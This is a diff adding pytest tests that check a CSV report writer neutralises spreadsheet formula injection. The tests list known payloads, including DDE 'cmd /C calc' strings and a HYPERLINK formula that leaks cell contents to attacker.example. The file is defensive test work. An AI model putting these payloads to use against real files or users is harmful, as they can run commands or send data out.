@@ -126,3 +126,41 @@ def test_both_groupings_account_for_every_quote_and_every_accepted_cent(tallies)
             if row.conversion_percent is not None:
                 assert Decimal(0) <= row.conversion_percent <= Decimal(100)
             assert row.accepted_revenue == row.accepted_revenue.quantize(Decimal("0.01"))
+
+
+# The classic formula-injection payloads (OWASP's CSV injection page and its sources):
+# each starts with one of =, +, -, @, tab or carriage return.
+FORMULA_PAYLOADS = (
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: click for details")',
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
+def test_a_text_cell_a_spreadsheet_would_run_is_written_as_quoted_text(tmp_path, payload):
+    path = reports.write_csv(tmp_path / "q.csv", ("patient",), [(payload,)])
+    with path.open(newline="", encoding="utf-8") as handle:
+        parsed = list(csv.reader(handle))
+    assert parsed == [["patient"], ["'" + payload]]
+
+
+def test_numbers_stay_numbers_and_a_phone_stays_readable_text(tmp_path):
+    header = ("amount", "count", "phone", "name", "email")
+    rows = [(Decimal("-20"), -3, "+1 555 0100", "Ana Souza", "@ana")]
+    path = reports.write_csv(tmp_path / "q.csv", header, rows)
+    with path.open(newline="", encoding="utf-8") as handle:
+        parsed = list(csv.reader(handle))
+    assert parsed[1] == ["-20.00", "-3", "'+1 555 0100", "Ana Souza", "'@ana"]
+
+
+def test_text_that_looks_like_a_number_is_still_text():
+    # Only the type says "number": a name typed as "-5" is quoted like any text.
+    assert reports.csv_value("-5") == "'-5"
+    assert reports.csv_value(-5) == "-5"
+    assert reports.csv_value(Decimal("-5")) == "-5.00"
+    assert reports.csv_value("5-") == "5-"
